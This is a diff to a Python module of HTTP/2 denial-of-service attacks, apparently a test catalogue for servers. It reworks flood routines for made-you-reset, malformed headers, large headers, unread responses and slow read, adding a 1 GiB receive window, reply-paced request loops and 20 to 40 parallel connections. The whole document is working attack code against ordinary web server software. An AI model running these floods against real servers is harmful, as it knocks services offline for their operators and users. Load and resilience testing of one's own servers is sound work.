@@ -1,16 +1,33 @@
 """Attacks over HTTP/2."""
 import struct
+import time
 
 import h2
 from catalogue import attack
 from h2 import END_HEADERS, END_STREAM, frame, headers, indexed, inserted, literal, request
 
 WIDE_OPEN = ((h2.INITIAL_WINDOW_SIZE, 0x7FFFFFFF),)
+GIB = 1 << 30
 SIXTEEN_RANGES = b"bytes=" + b",".join(b"%d-%d" % (i * 1000, i * 1000) for i in range(16))
 
 
 def flood(run, batch, **how):
-    run.flood(lambda: h2.connect(run, WIDE_OPEN), batch, **how)
+    run.flood(lambda: h2.connect(run, WIDE_OPEN, window=GIB), batch, **how)
+
+
+def answered(run, each, kind, count=50):
+    """`each(stream)` for so many streams, and for more once the server has sent a frame for each."""
+    make = per_stream(each, count)
+    while run.on():
+        channel, asked = h2.connect(run, WIDE_OPEN, window=GIB), 0
+        while channel is not None and run.on() and channel.send(make(asked)):
+            asked += 1
+            end = time.monotonic() + 1
+            while channel.heard.get(kind, 0) < asked * count and not channel.over and time.monotonic() < end:
+                channel.take(0.001)
+        if channel is not None:
+            channel.close()
+        run.pause(0.02)
 
 
 def per_stream(each, count=100):
@@ -29,13 +46,13 @@ def rapid_reset(run):
         "overflown, so that the server resets them")
 def made_you_reset(run):
     block = request(b"/big.bin")
-    flood(run, per_stream(lambda s: headers(s, block) + h2.window_update(s, 0x7FFFFFFF)))
+    answered(run, lambda s: headers(s, block) + h2.window_update(s, 0x7FFFFFFF), h2.RST_STREAM)
 
 
 @attack("h2-malformed", "h2", "F9, H2-02", "requests with an upper-case field name")
 def malformed(run):
     block = request() + literal(b"Upper", b"case")
-    flood(run, per_stream(lambda s: headers(s, block)))
+    answered(run, lambda s: headers(s, block), h2.RST_STREAM)
 
 
 @attack("h2-field-bomb", "h2", "F3, H2-04", "requests with 147,000 one-byte references to a field of 3.9 KB")
@@ -63,10 +80,10 @@ def cookie_crumbs(run):
     flood(run, batch)
 
 
-@attack("h2-large-heads", "h2", "H1-13, H2-04", "requests with 15 KB of new fields, 100 at a time")
+@attack("h2-large-heads", "h2", "H1-13, H2-04", "requests with 15 KB of new fields, 50 at a time")
 def large_heads(run):
     block = request() + b"".join(literal(b"x-%d" % i, b"a" * 140) for i in range(98))
-    flood(run, per_stream(lambda s: headers(s, block), 20))
+    answered(run, lambda s: headers(s, block), h2.HEADERS)
 
 
 @attack("h2-continuation", "h2", "H2-03, VU#421644", "a field section of CONTINUATION without end, and empty ones")
@@ -102,10 +119,15 @@ def unread_pings(run):
     flood(run, lambda n: piece, reads=False)
 
 
-@attack("h2-unread-responses", "h2", "H2-08", "requests for what is not there, and nothing is read")
+@attack("h2-unread-responses", "h2", "H2-08", "requests for what is not there, and nothing is read, on 20 connections")
 def unread_responses(run):
-    run.flood(lambda: h2.connect(run, WIDE_OPEN, receive_buffer=4096),
-              per_stream(lambda s: headers(s, request(b"/not/there"))), reads=False)
+    batch, count = per_stream(lambda s: headers(s, request(b"/not/there")), 50), 0
+    channels = run.many(20, lambda: h2.connect(run, WIDE_OPEN, 4096, GIB))
+    while run.on():
+        for channel in channels:
+            channel.send(batch(count), patience=0)
+        count += 1
+        run.pause(0.05)
 
 
 def zero_window(name, source, does, fields):
@@ -139,10 +161,9 @@ zero_window("h2-zero-window-both", "F2, H2-05", "the same, each with 32 KiB of f
 @attack("h2-slow-read", "h2", "H1-17, H2-05", "40 connections ask for 16 MiB ten times each and read nothing")
 def slow_read(run):
     def connect():
-        channel = h2.connect(run, WIDE_OPEN, receive_buffer=4096)
+        channel = h2.connect(run, WIDE_OPEN, 4096, GIB)
         if channel is not None:
-            channel.send(b"".join(headers(2 * i + 1, request(b"/big.bin")) for i in range(10))
-                         + h2.window_update(0, 0x7FFF0000))
+            channel.send(b"".join(headers(2 * i + 1, request(b"/big.bin")) for i in range(10)))
         return channel
     run.keep(run.many(40, connect))
 
